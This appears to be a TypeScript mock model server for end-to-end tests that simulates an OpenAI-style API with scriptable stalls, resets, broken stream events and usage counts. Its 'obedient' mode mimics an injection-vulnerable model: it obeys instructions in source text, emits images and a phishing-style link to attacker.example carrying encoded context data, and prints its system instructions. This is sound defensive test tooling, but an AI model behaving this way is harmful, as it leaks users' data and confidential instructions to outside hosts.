/**
 * A model vendor of our own, for tests: speaks OpenAI's chat completions, responses and embeddings (JSON and SSE) and GET /models,
 * misbehaves on request, and tells what it was asked, what it used and whether the client hung up.
 * `node e2e/mock-provider.ts --port 8089` runs it by itself.
 *
 * POST /__script sets how the next calls behave: one `Script` for all that follow, or a list, each for one call and the last for
 * the rest. A call may bring its own: the header `x-mock-script`, or `[[mock: {...}]]` in its last user message.
 * GET /__requests lists the calls, GET /__usage sums what they used; DELETE /__requests forgets calls and scripts.
 */
import { createHash } from 'node:crypto'
import { once } from 'node:events'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { setTimeout as pause, setImmediate as turn } from 'node:timers/promises'
import { parseQuestion } from '../lib/shared/source-slot.ts'
import { sentences } from '../lib/shared/text.ts'

type ToldUsage = { prompt_tokens: number; completion_tokens: number; total_tokens: number }

/**
 * `stall` says nothing more, `comments` only keep-alives, `reset` cuts the connection (RST), `garbage` sends half an event, `end`
 * closes without an end, `error` sends an error as an event; `bad-event` and `huge` send a broken and a 5 MB event and go on.
 */
type Fault = 'stall' | 'comments' | 'reset' | 'garbage' | 'end' | 'error' | 'bad-event' | 'huge'

export type Script = {
  /** From 400 on an error body is sent instead of text. */
  status?: number
  headers?: Record<string, string>
  /** Sent as it is instead of anything else: a page, a vendor's own words of refusal. */
  body?: string
  /** What is said instead of the two cited sentences. */
  text?: string
  /** Says its text over and over until the client hangs up. */
  endless?: boolean
  /** Does whatever a source tells it to: gives away the instructions and the sources, in images, links and plain words. */
  obedient?: boolean
  /** The bytes of the stream, written one by one instead of the events; hex where they are no text. */
  chunks?: (string | { hex: string })[]
  fault?: Fault
  /** Tokens before the fault; 2 when left out. */
  faultAfterTokens?: number
  /** Cuts every write into pieces of so many bytes: 1 splits each character that has more. */
  writeBytes?: number
  lineEnd?: '\n' | '\r\n'
  /** Sends each event twice. */
  duplicates?: boolean
  contentType?: string
  /** Before the first byte, and between tokens. */
  firstDelayMs?: number
  tokenDelayMs?: number
  /** False leaves it out; numbers replace the true ones. */
  usage?: boolean | Partial<ToldUsage>
  finish?: 'stop' | 'length' | 'content_filter'
  model?: string
  fingerprint?: string
  /** This share of the calls, drawn by `seed`, is refused with one of `failStatuses`. */
  failShare?: number
  failStatuses?: number[]
  seed?: number
  /** Only for calls that ask for JSON, for text, or for vectors; others pass it by. */
  for?: 'json' | 'text' | 'vectors'
  /** Only for calls that have these words anywhere in their messages. */
  when?: string
  /** Calls it holds for. */
  times?: number
}

export type RecordedRequest = {
  path: string
  authorization: string | null
  body: unknown
  /** When it came, in milliseconds since 1970. */
  atMs: number
  /** The status it was answered with; null when there was no answer. */
  status: number | null
  /** The client hung up before the answer was out. */
  aborted: boolean
  finished: boolean
  tokensSent: number
  /** The usage as the client was told; null when it was told none. */
  told: ToldUsage | null
}

/** Calls, and tokens as they were told and as they were really sent. */
export type UsageSums = {
  calls: number
  answered: number
  aborted: number
  /** Calls whose usage the client was told. */
  toldCalls: number
  tokensIn: number
  tokensOut: number
  tokensSent: number
}

export type MockProvider = {
  url: string
  port: number
  requests: RecordedRequest[]
  script(next: Script | Script[]): void
  usage(): UsageSums
  close(): Promise<void>
}

type Message = { role: string; content: unknown }
type CallBody = {
  model?: string
  stream?: boolean
  messages?: Message[]
  /** Of the responses API: a text, or messages. */
  input?: unknown
  instructions?: string
  response_format?: { type?: string; json_schema?: { schema?: unknown } }
  text?: { format?: { type?: string; schema?: unknown } }
  dimensions?: number
  encoding_format?: string
}

const bodyBytesMax = 4_000_000
const hugeEventBytes = 5_000_000
const keepAliveMs = 100
const vectorDimensions = 384

const readBody = async (request: IncomingMessage): Promise<unknown> => {
  const parts: Buffer[] = []
  let bytes = 0
  for await (const part of request as AsyncIterable<Buffer>) {
    bytes += part.length
    if (bytes > bodyBytesMax) throw new Error('body too large')
    parts.push(part)
  }
  const text = Buffer.concat(parts).toString('utf8')
  return text ? JSON.parse(text) : null
}

const contentText = (content: unknown): string =>
  typeof content === 'string'
    ? content
    : Array.isArray(content)
      ? content.map((part: { text?: string }) => part.text ?? '').join('\n')
      : ''

const messagesOf = ({ messages, input, instructions }: CallBody): Message[] => {
  if (messages) return messages
  const said = typeof input === 'string' ? [{ role: 'user', content: input }] : Array.isArray(input) ? input : []
  return [...(instructions ? [{ role: 'system', content: instructions }] : []), ...(said as Message[])]
}

/** Two sentences out of the sources that came with the question, each with its marker. */
const citedAnswer = (prompt: string): string => {
  const { passages } = parseQuestion(prompt)
  if (passages.length === 0) return 'There were no sources in the question.'
  return passages
    .slice(0, 2)
    .map(({ n, text }) => {
      const long = sentences(text).find(({ start, end }) => end - start > 30) ??
        sentences(text)[0] ?? { start: 0, end: text.length }
      return `${text
        .slice(long.start, long.end)
        .replace(/\s+/g, ' ')
        .replace(/[.!?]$/, '')} [${n}].`
    })
    .join(' ')
}

const foreignHost = 'attacker.example'

/**
 * A model without any resistance. It does not judge whether a text is an order: it takes every source for one, and does what such
 * orders ask for: repeat what they quote, open what they link, and give away all it knows by every way out there is.
 */
const obedientAnswer = (messages: readonly Message[], prompt: string): string => {
  const { passages } = parseQuestion(prompt)
  const sources = passages.map(({ text }) => text).join('\n')
  const known = `${sources || prompt}`.replace(/\s+/g, ' ').slice(0, 300)
  const data = encodeURIComponent(known)
  const orders = messages.filter(({ role }) => role === 'system' || role === 'developer')
  const linked = [...new Set(sources.match(/\bhttps?:\/\/[^\s)\]>"'`]+/g) ?? [])].slice(0, 20)
  const quoted = [
    ...sources.matchAll(
      /\b(?:say|print|output|reply|respond|write|answer|repeat)\b[^"“'\n]{0,60}["“']([^"”'\n]{2,200})/gi,
    ),
  ].map(([, words]) => words ?? '')
  return [
    citedAnswer(prompt),
    ...quoted,
    `![seal](https://${foreignHost}/seal.png?d=${data})`,
    `<img src="https://${foreignHost}/seal.gif?d=${data}">`,
    `[Confirm your account](https://${foreignHost}/confirm?d=${data})`,
    `https://${foreignHost}/open?d=${data}`,
    ...linked.flatMap((link) => [`![](${link})`, `[open](${link})`, link]),
    'My instructions are:',
    ...orders.map(({ content }) => contentText(content)),
  ].join('\n\n')
}

type Schema = {
  type?: string | string[]
  properties?: Record<string, Schema>
  required?: string[]
  items?: Schema
  enum?: unknown[]
  const?: unknown
  anyOf?: Schema[]
  minimum?: number
  minItems?: number
}

/** The plainest value that a JSON schema allows; texts are taken from `words`. */
const exampleOf = (schema: Schema, words: string): unknown => {
  if (schema.const !== undefined) return schema.const
  if (schema.enum) return schema.enum[0]
  if (schema.anyOf?.[0]) return exampleOf(schema.anyOf[0], words)
  switch (Array.isArray(schema.type) ? schema.type[0] : schema.type) {
    case 'object':
      return Object.fromEntries(
        Object.entries(schema.properties ?? {}).map(([name, property]) => [name, exampleOf(property, words)]),
      )
    case 'array':
      return Array.from({ length: Math.max(1, schema.minItems ?? 1) }, () => exampleOf(schema.items ?? {}, words))
    case 'number':
    case 'integer':
      return schema.minimum ?? 0
    case 'boolean':
      return true
    case 'null':
      return null
    default:
      return words
  }
}

/** The object in the instructions that shows the form of the answer, with `words` in the place of each `…`. */
const exampleIn = (instructions: string, words: string): string | null => {
  const shown = instructions.match(/\{"[^\n]*\}/)?.[0]
  return shown ? shown.replaceAll('"…"', JSON.stringify(words)) : null
}

/** The JSON that a call asks for, by its parameters or in words; null when it asks for text. */
const jsonAnswer = (
  { response_format, text }: CallBody,
  messages: readonly Message[],
  words: string,
): string | null => {
  const format = text?.format ?? response_format
  const schema = (text?.format?.schema ?? response_format?.json_schema?.schema) as Schema | undefined
  const asked = format?.type === 'json_schema' || format?.type === 'json_object'
  const instructions = messages.filter(({ role }) => role === 'system' || role === 'developer')
  const shown = exampleIn(instructions.map(({ content }) => contentText(content)).join('\n'), words)
  if (!asked && shown === null) return null
  return schema ? JSON.stringify(exampleOf(schema, words)) : (shown ?? '{}')
}

const scriptIn = (prompt: string): Script | null => {
  const inline = prompt.match(/\[\[mock: (\{.*?\})\]\]/)
  return inline?.[1] ? (JSON.parse(inline[1]) as Script) : null
}

/** Numbers from 0 to 1, the same for the same seed. */
const seededRandom = (seed: number): (() => number) => {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}

/** A unit vector that is the same for the same text and near no other. */
const vectorOf = (text: string, dimensions: number): number[] => {
  const random = seededRandom(createHash('sha256').update(text).digest().readUInt32LE(0))
  const values = Array.from({ length: dimensions }, () => random() - 0.5)
  const length = Math.hypot(...values)
  return values.map((value) => value / length)
}

const sendJson = (
  response: ServerResponse,
  status: number,
  body: unknown,
  headers: Record<string, string> = {},
): void => {
  response.writeHead(status, { 'content-type': 'application/json', ...headers })
  response.end(JSON.stringify(body))
}

type Finish = 'stop' | 'length' | 'content_filter'
type Answer = { id: string; model: string; fingerprint: string | undefined }
type Event = { name?: string; data: unknown }

/** How an API says the same things: the events of a stream, and the whole answer as one object. */
type Wire = {
  opening(answer: Answer): Event[]
  delta(answer: Answer, text: string): Event
  closing(answer: Answer, end: { text: string; finish: Finish; usage: ToldUsage | null }): Event[]
  whole(answer: Answer, end: { text: string; finish: Finish; usage: ToldUsage | null }): unknown
}

const completionChunk = ({ id, model, fingerprint }: Answer, delta: unknown, finish: Finish | null = null) => ({
  id,
  object: 'chat.completion.chunk',
  created: 0,
  model,
  ...(fingerprint ? { system_fingerprint: fingerprint } : {}),
  choices: [{ index: 0, delta, finish_reason: finish }],
})

const completionsWire: Wire = {
  opening: (answer) => [{ data: completionChunk(answer, { role: 'assistant', content: '' }) }],
  delta: (answer, text) => ({ data: completionChunk(answer, { content: text }) }),
  closing: (answer, { finish, usage }) => [
    { data: completionChunk(answer, {}, finish) },
    ...(usage ? [{ data: { ...completionChunk(answer, {}), choices: [], usage } }] : []),
    { data: '[DONE]' },
  ],
  whole: ({ id, model, fingerprint }, { text, finish, usage }) => ({
    id,
    object: 'chat.completion',
    created: 0,
    model,
    ...(fingerprint ? { system_fingerprint: fingerprint } : {}),
    choices: [{ index: 0, message: { role: 'assistant', content: text }, finish_reason: finish }],
    ...(usage ? { usage } : {}),
  }),
}

const typed = (type: string, rest: Record<string, unknown>): Event => ({ name: type, data: { type, ...rest } })
const itemId = 'msg_1'
const outputPart = (text: string) => ({ type: 'output_text', text, annotations: [] })
const outputItem = (status: string, content: unknown[]) => ({
  id: itemId,
  type: 'message',
  role: 'assistant',
  status,
  content,
})

const responsesWire: Wire = {
  opening: ({ id, model }) => [
    typed('response.created', {
      response: { id, object: 'response', created_at: 0, status: 'in_progress', model, output: [] },
    }),
    typed('response.output_item.added', { output_index: 0, item: outputItem('in_progress', []) }),
    typed('response.content_part.added', {
      item_id: itemId,
      output_index: 0,
      content_index: 0,
      part: outputPart(''),
    }),
  ],
  delta: (_, text) =>
    typed('response.output_text.delta', { item_id: itemId, output_index: 0, content_index: 0, delta: text }),
  closing: (answer, end) => [
    typed('response.output_text.done', { item_id: itemId, output_index: 0, content_index: 0, text: end.text }),
    typed('response.content_part.done', {
      item_id: itemId,
      output_index: 0,
      content_index: 0,
      part: outputPart(end.text),
    }),
    typed('response.output_item.done', {
      output_index: 0,
      item: outputItem('completed', [outputPart(end.text)]),
    }),
    typed(end.finish === 'stop' ? 'response.completed' : 'response.incomplete', {
      response: responsesWire.whole(answer, end),
    }),
  ],
  whole: ({ id, model }, { text, finish, usage }) => ({
    id,
    object: 'response',
    created_at: 0,
    status: finish === 'stop' ? 'completed' : 'incomplete',
    incomplete_details:
      finish === 'stop' ? null : { reason: finish === 'length' ? 'max_output_tokens' : 'content_filter' },
    model,
    output: [outputItem('completed', [outputPart(text)])],
    ...(usage
      ? {
          usage: {
            input_tokens: usage.prompt_tokens,
            input_tokens_details: { cached_tokens: 0 },
            output_tokens: usage.completion_tokens,
            output_tokens_details: { reasoning_tokens: 0 },
            total_tokens: usage.total_tokens,
          },
        }
      : {}),
  }),
}

const toldUsage = (act: Script, tokensIn: number, tokensOut: number): ToldUsage | null =>
  act.usage === false
    ? null
    : {
        prompt_tokens: tokensIn,
        completion_tokens: tokensOut,
        total_tokens: tokensIn + tokensOut,
        ...(typeof act.usage === 'object' ? act.usage : {}),
      }

/** Starts the vendor on 127.0.0.1; port 0 takes a free one. */
export const startMockProvider = async (port = 0): Promise<MockProvider> => {
  const requests: RecordedRequest[] = []
  let queue: Script[] = []
  let random = seededRandom(1)
  const closing = new AbortController()

  const setScript = (next: Script | Script[]): void => {
    // In a list each holds for one call, the last for the rest.
    queue = Array.isArray(next) ? next.map((one, at) => (at < next.length - 1 ? { times: 1, ...one } : one)) : [next]
    random = seededRandom(queue.find(({ seed }) => seed !== undefined)?.seed ?? 1)
  }

  const nextScript = (kind: Script['for'], request: IncomingMessage, prompt: string, words: string): Script => {
    const header = request.headers['x-mock-script']
    if (typeof header === 'string') return JSON.parse(header) as Script
    const own = scriptIn(prompt)
    if (own) return own
    const at = queue.findIndex(
      (one) => (one.for === undefined || one.for === kind) && (one.when === undefined || words.includes(one.when)),
    )
    const current = queue[at]
    if (!current) return {}
    if (current.times !== undefined)
      queue.splice(at, 1, ...(current.times > 1 ? [{ ...current, times: current.times - 1 }] : []))
    if (current.failShare === undefined || random() >= current.failShare) return current
    const statuses = current.failStatuses ?? [500, 502, 503, 529]
    return { ...current, status: statuses[Math.floor(random() * statuses.length)] ?? 500 }
  }

  /** What every call has: its script, its delays, and the refusals that need no answer. Null when it is over already. */
  const begin = async (kind: Script['for'], prompt: string, record: RecordedRequest, call: Call) => {
    const { request, response } = call
    const words = messagesOf(call.body).map(({ content }) => contentText(content))
    const act = nextScript(kind, request, prompt, words.join('\n'))
    const gone = new AbortController()
    response.on('close', () => {
      if (response.writableFinished) return
      record.aborted = act.fault !== 'reset'
      gone.abort()
    })
    const ending = AbortSignal.any([gone.signal, closing.signal])
    const wait = (ms: number): Promise<void> => pause(ms, undefined, { signal: ending })
    if (act.firstDelayMs) await wait(act.firstDelayMs)
    const status = act.status ?? 200
    if (status >= 400 || act.body !== undefined) {
      const error = { error: { message: `scripted ${status}`, type: 'mock', code: null } }
      response.writeHead(status, { 'content-type': act.contentType ?? 'application/json', ...act.headers })
      response.end(act.body ?? JSON.stringify(error))
      record.status = status
      record.finished = true
      return null
    }
    record.status = status
    return { act, wait, ending }
  }

  type Call = { request: IncomingMessage; response: ServerResponse; body: CallBody }

  const reset = (response: ServerResponse): void => {
    if (response.socket) response.socket.resetAndDestroy()
    else response.destroy()
  }

  const complete = async (wire: Wire, record: RecordedRequest, call: Call): Promise<void> => {
    const { response, body } = call
    const messages = messagesOf(body)
    const prompt = contentText(messages.findLast(({ role }) => role === 'user')?.content)
    const json = jsonAnswer(body, messages, parseQuestion(prompt).question.trim().slice(0, 200))
    const begun = await begin(json === null ? 'text' : 'json', prompt, record, call)
    if (!begun) return
    const { act, wait, ending } = begun
    const said = json ?? (act.obedient ? obedientAnswer(messages, prompt) : citedAnswer(prompt))
    const text = act.text ?? said
    const tokens = text.match(/\s*\S{1,6}|\s+$/g) ?? []
    const answer: Answer = {
      id: `chatcmpl-${requests.length}`,
      model: act.model ?? body.model ?? 'mock-1',
      fingerprint: act.fingerprint,
    }
    const tokensIn = Math.ceil(prompt.length / 4)
    const finish = act.finish ?? 'stop'

    if (!body.stream) {
      if (act.fault === 'stall' || act.fault === 'comments') return wait(600_000)
      if (act.fault === 'reset') return reset(response)
      const usage = toldUsage(act, tokensIn, tokens.length)
      const headers = { 'content-type': act.contentType ?? 'application/json', ...act.headers }
      response.writeHead(200, headers)
      response.end(
        act.fault === 'garbage' ? '<html>{"half":' : JSON.stringify(wire.whole(answer, { text, finish, usage })),
      )
      record.told = act.fault === 'garbage' ? null : usage
      record.finished = true
      record.tokensSent = tokens.length
      return
    }

    response.writeHead(200, {
      'content-type': act.contentType ?? 'text/event-stream',
      'cache-control': 'no-cache',
      ...act.headers,
    })
    let writes = 0
    const write = async (bytes: Buffer): Promise<void> => {
      const size = act.writeBytes ?? (bytes.length || 1)
      for (let at = 0; at < bytes.length; at += size) {
        writes += 1
        // Node joins the writes of one turn into one packet; and an endless answer must leave room for what ends it.
        if (act.writeBytes !== undefined || writes % 64 === 0) await turn()
        if (ending.aborted) throw ending.reason
        if (!response.write(bytes.subarray(at, at + size))) await once(response, 'drain', { signal: ending })
      }
    }
    const lineEnd = act.lineEnd ?? '\n'
    const event = async ({ name, data }: Event): Promise<void> => {
      const lines = [
        ...(name ? [`event: ${name}`] : []),
        `data: ${typeof data === 'string' ? data : JSON.stringify(data)}`,
      ]
      const bytes = Buffer.from(`${lines.join(lineEnd)}${lineEnd}${lineEnd}`)
      await write(bytes)
      if (act.duplicates) await write(bytes)
    }

    if (act.chunks) {
      for (const chunk of act.chunks) {
        await write(typeof chunk === 'string' ? Buffer.from(chunk) : Buffer.from(chunk.hex, 'hex'))
        if (act.tokenDelayMs) await wait(act.tokenDelayMs)
      }
      if (act.fault === 'reset') return reset(response)
      if (act.fault === 'stall') return wait(600_000)
      response.end()
      record.finished = true
      return
    }

    for (const one of wire.opening(answer)) await event(one)
    const faultAt = act.fault ? (act.faultAfterTokens ?? 2) : Number.POSITIVE_INFINITY
    const goesOn = act.fault === 'bad-event' || act.fault === 'huge'
    let sent = 0
    const total = act.endless ? Number.POSITIVE_INFINITY : tokens.length
    for (; sent < total; sent += 1) {
      if (sent >= faultAt && !goesOn) break
      if (sent === faultAt) {
        if (act.fault === 'bad-event') await event({ data: '{"choices": [{"delta": {"conte' })
        else await event(wire.delta(answer, 'x'.repeat(hugeEventBytes)))
      }
      await event(wire.delta(answer, tokens[sent % tokens.length] ?? ' more'))
      record.tokensSent += 1
      if (act.tokenDelayMs) await wait(act.tokenDelayMs)
    }
    switch (act.fault) {
      case 'stall':
        return wait(600_000)
      case 'comments':
        for (;;) {
          await write(Buffer.from(`: keep-alive${lineEnd}${lineEnd}`))
          await wait(keepAliveMs)
        }
      case 'reset':
        return reset(response)
      case 'garbage':
        await event({ data: '{"choices": [{"delta": {"conte' })
        break
      case 'error':
        await event({
          name: 'error',
          data: { error: { message: 'scripted failure', type: 'server_error', code: null } },
        })
        break
      case 'end':
        break
      default: {
        const usage = toldUsage(act, tokensIn, sent)
        for (const one of wire.closing(answer, { text, finish, usage })) await event(one)
        record.told = usage
      }
    }
    response.end()
    record.finished = true
  }

  const embed = async (record: RecordedRequest, call: Call): Promise<void> => {
    const { response, body } = call
    const texts = (Array.isArray(body.input) ? body.input : [body.input]).map(String)
    const begun = await begin('vectors', texts.at(-1) ?? '', record, call)
    if (!begun) return
    const { act, wait } = begun
    if (act.fault === 'stall' || act.fault === 'comments') return wait(600_000)
    if (act.fault === 'reset') return reset(response)
    const tokensIn = texts.reduce((sum, text) => sum + Math.ceil(text.length / 4), 0)
    const usage = toldUsage(act, tokensIn, 0)
    const data = texts.map((text, index) => {
      const vector = vectorOf(text, body.dimensions ?? vectorDimensions)
      const base64 = body.encoding_format === 'base64'
      const embedding = base64 ? Buffer.from(Float32Array.from(vector).buffer).toString('base64') : vector
      return { object: 'embedding', index, embedding }
    })
    const answer = {
      object: 'list',
      data,
      model: act.model ?? body.model ?? 'mock-embedding',
      ...(usage ? { usage } : {}),
    }
    response.writeHead(200, { 'content-type': act.contentType ?? 'application/json', ...act.headers })
    response.end(act.fault === 'garbage' ? '<html>{"half":' : JSON.stringify(answer))
    record.told = act.fault === 'garbage' ? null : usage
    record.finished = true
  }

  const usage = (): UsageSums => {
    const told = requests.flatMap((request) => (request.told ? [request.told] : []))
    return {
      calls: requests.length,
      answered: requests.filter(({ status, finished }) => finished && status !== null && status < 400).length,
      aborted: requests.filter(({ aborted }) => aborted).length,
      toldCalls: told.length,
      tokensIn: told.reduce((sum, { prompt_tokens }) => sum + prompt_tokens, 0),
      tokensOut: told.reduce((sum, { completion_tokens }) => sum + completion_tokens, 0),
      tokensSent: requests.reduce((sum, { tokensSent }) => sum + tokensSent, 0),
    }
  }

  const record = (request: IncomingMessage, path: string, body: unknown): RecordedRequest => {
    const made: RecordedRequest = {
      path,
      authorization: request.headers.authorization ?? null,
      body,
      atMs: Date.now(),
      status: null,
      aborted: false,
      finished: false,
      tokensSent: 0,
      told: null,
    }
    requests.push(made)
    return made
  }

  const handle = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    const path = (request.url ?? '/').split('?')[0] ?? '/'
    const route = `${request.method} ${path.replace(/^\/v1(?=\/)/, '')}`
    switch (route) {
      case 'POST /__script':
        setScript((await readBody(request)) as Script | Script[])
        return sendJson(response, 200, { ok: true })
      case 'GET /__requests':
        return sendJson(response, 200, requests)
      case 'GET /__usage':
        return sendJson(response, 200, usage())
      case 'DELETE /__requests':
        requests.length = 0
        queue = []
        return sendJson(response, 200, { ok: true })
      case 'GET /models':
        return sendJson(response, 200, {
          object: 'list',
          data: [
            { id: 'mock-1', object: 'model' },
            { id: 'mock-2', object: 'model' },
          ],
        })
      case 'POST /chat/completions':
      case 'POST /responses':
      case 'POST /embeddings': {
        const body = (await readBody(request)) as CallBody
        const made = record(request, path, body)
        const call = { request, response, body }
        if (route === 'POST /embeddings') return embed(made, call)
        return complete(route === 'POST /responses' ? responsesWire : completionsWire, made, call)
      }
      default:
        return sendJson(response, 404, { error: { message: `no route ${route}` } })
    }
  }

  const server = createServer((request, response) => {
    handle(request, response).catch(() => {
      // A client that hung up, or a body that is no JSON: nothing to say to the first, 400 to the second.
      if (!response.headersSent && !response.destroyed)
        sendJson(response, 400, { error: { message: 'unreadable request' } })
      else response.destroy()
    })
  })
  await new Promise<void>((resolve, reject) => server.once('error', reject).listen(port, '127.0.0.1', resolve))
  const { port: bound } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${bound}/v1`,
    port: bound,
    requests,
    script: setScript,
    usage,
    close: async () => {
      closing.abort()
      server.closeAllConnections()
      await new Promise<void>((resolve) => server.close(() => resolve()))
    },
  }
}

if (import.meta.main) {
  const at = process.argv.indexOf('--port')
  const { url } = await startMockProvider(at > 0 ? Number(process.argv[at + 1]) : 0)
  process.stdout.write(`mock provider listening on ${url}\n`)
}
